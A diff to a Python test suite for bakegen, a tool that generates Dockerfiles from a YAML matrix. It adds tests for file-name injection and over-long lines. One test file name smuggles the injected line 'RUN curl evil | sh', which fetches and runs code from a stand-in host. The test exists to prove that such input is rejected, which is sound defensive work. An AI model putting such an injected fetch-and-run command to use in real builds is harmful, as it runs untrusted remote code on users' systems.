@@ -23,6 +23,7 @@ from hypothesis import strategies as st
 from ruamel.yaml import YAML
 
 from bakegen import BakegenError, render_project
+from bakegen.fields import looks_secret
 from conftest import PROJECTS
 from hcl import _value, decode, literal
 from test_escaping import parses_with_python_hcl2
@@ -141,7 +142,9 @@ one_line = st.text(alphabet=st.characters(exclude_characters="\x00\n\r", exclude
 @given(st.fixed_dictionaries({
     "command": st.lists(no_nul, min_size=1, max_size=3),
     "health": st.lists(no_nul, min_size=1, max_size=3),
-    "arg": no_nul, "env": one_line, "label_key": no_nul, "label_value": no_nul,
+    "arg": no_nul, "env": one_line, "label_value": no_nul,
+    # Label keys that read like secrets ("api-token") are refused, rightly.
+    "label_key": no_nul.filter(lambda key: not looks_secret(key)),
     "tag": st.from_regex(r"[A-Za-z0-9._-]{0,20}", fullmatch=True),
 }))
 def test_accepted_values_roundtrip_exactly(values):
@@ -175,3 +178,28 @@ def test_hostile_examples():
         target = bake["target"][0]['"api-production"']
         assert literal(target["args"]['"SETTING"']) == hostile
         assert "".join(decode(target["labels"]['"k"'])) == hostile
+
+
+def test_the_matrix_file_name_cannot_add_lines_to_banners(project, run):
+    matrix = project("minimal")
+    for name in ("m\nRUN curl evil | sh\n.yaml", "m\x85RUN id.yaml"):
+        renamed = matrix.parent / name
+        matrix.rename(renamed)
+        result = run("render", "-f", str(renamed))
+        assert result.exit_code == 2
+        assert "the matrix file's name has characters bakegen cannot write into its banners: " in result.stderr
+        assert result.stderr.endswith("  hint: rename the file, e.g. to matrix.yaml\n")
+        assert not (matrix.parent / "generated").exists()
+        renamed.rename(matrix)
+
+
+def test_a_dockerfile_line_buildkit_would_refuse_is_an_error(project, run):
+    matrix = project("minimal")
+    words = ", ".join(["x" * 15_000] * 5)  # each value is short enough; the CMD line is not
+    matrix.write_text(matrix.read_text().replace("[python, -m, app]", f"[{words}]"))
+    result = run("render", "-f", str(matrix))
+    assert result.exit_code == 2
+    assert result.stderr.startswith("matrix.yaml: line ")
+    assert " of generated/api/Dockerfile would be 75,0" in result.stderr
+    assert "bytes; BuildKit reads lines of at most 65,535\n" in result.stderr
+    assert not (matrix.parent / "generated").exists()
